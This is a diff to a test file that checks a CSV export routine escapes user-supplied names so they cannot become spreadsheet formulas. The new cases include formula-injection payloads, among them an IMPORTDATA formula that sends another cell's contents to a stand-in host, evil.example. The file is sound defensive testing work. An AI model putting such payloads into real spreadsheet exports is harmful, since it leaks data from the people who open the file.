@@ -7,10 +7,18 @@ test('cells keep their commas, quotes and lines', () => {
   )
 })
 
-test.each(['=HYPERLINK("https://evil.example")', '+66812345678', '-1+1', '@SUM(A1)', '\t=1', '\r=1'])(
-  'what somebody called themselves never becomes a formula: %j',
-  (name) => {
-    const [cell] = fileLines([[name, 'x']]).split(',x')
-    expect(cell).toMatch(/^"?'/)
-  },
-)
+test.each([
+  '=HYPERLINK("https://evil.example")',
+  '+66812345678',
+  '-1+1',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '=1\n1',
+  '=IMPORTDATA("//evil.example?"&B2)\n&""',
+  '＝1+1',
+])('what somebody called themselves never becomes a formula: %j', (name) => {
+  const [cell] = fileLines([[name, 'x']]).split(',x')
+  expect(cell).toMatch(/^"?'/)
+})
